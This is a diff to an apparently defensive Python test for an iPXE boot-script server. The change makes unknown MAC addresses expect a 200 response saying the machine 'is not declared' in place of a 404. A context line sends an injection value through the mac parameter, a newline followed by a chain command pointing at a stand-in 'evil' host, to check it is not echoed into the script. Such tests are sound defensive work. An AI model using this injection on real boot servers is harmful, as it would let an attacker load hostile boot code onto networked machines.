@@ -128,7 +128,7 @@ async def test_an_unknown_machine_storm_leaves_the_journal_to_real_events(rig: R
     for _ in range(3000):
         mac = ":".join(f"{rng.randrange(256):02x}" for _ in range(6))
         async with rig.client.get(f"/ipxe?mac={mac}") as resp:
-            assert resp.status == 404
+            assert resp.status == 200 and "is not declared" in await resp.text()
     # an injection attempt through the query is not echoed into the script
     async with rig.client.get("/ipxe", params={"mac": "x\nchain http://evil/x"}) as resp:
         text = await resp.text()
